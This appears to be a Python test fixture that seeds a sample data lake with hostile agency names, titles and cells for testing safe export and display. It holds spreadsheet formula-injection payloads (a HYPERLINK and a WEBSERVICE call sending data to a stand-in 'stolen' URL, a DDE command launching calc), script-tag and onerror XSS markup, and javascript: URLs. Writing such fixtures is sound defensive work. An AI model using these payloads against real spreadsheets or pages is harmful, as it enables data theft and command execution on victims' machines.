"""The sample lake with names, titles, addresses and cells that attack whatever shows them."""

from __future__ import annotations

from tests.warehouse.sample_lake import Lake, applications, sample

# What a spreadsheet would compute, follow or fetch if it took it for a formula.
FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/stolen","look")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    '=WEBSERVICE("http://127.0.0.1:9/"&A1)',
)
MARKUP = "</script><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
SEPARATORS = "line\u2028separator\u2029 ]]> <!-- {{DATA}} ${1} \\u003c"


def hostile() -> Lake:
    """An agency for each formula, one with markup for a name; hostile titles, addresses, raw texts and reasons."""
    lake = sample()
    names = (*FORMULAS, MARKUP, SEPARATORS)
    for number, name in enumerate(names):
        lake.agency(f"ag-evil-{number}", name, "340100", "p-hub")
        lake.report(
            f"ag-evil-{number}",
            2021,
            "F2021",
            applications(100, granted=90 - number, refused_other_law=10 + number),
            source_url=name if number % 2 else f"javascript:document.title='owned'//{number}",
        )
        lake.rows["report"][-1]["title"] = name
        for cell in lake.rows["cell_version"]:
            if cell["report_id"] == f"r-ag-evil-{number}-2021":
                cell["raw"], cell["locator"] = name, f"<b>{name}</b>"
        lake.report(f"ag-evil-{number}", 2022, outcome="unreadable", reason=name)
    lake.rows["division"][1]["name"] = "=1+1"
    return lake
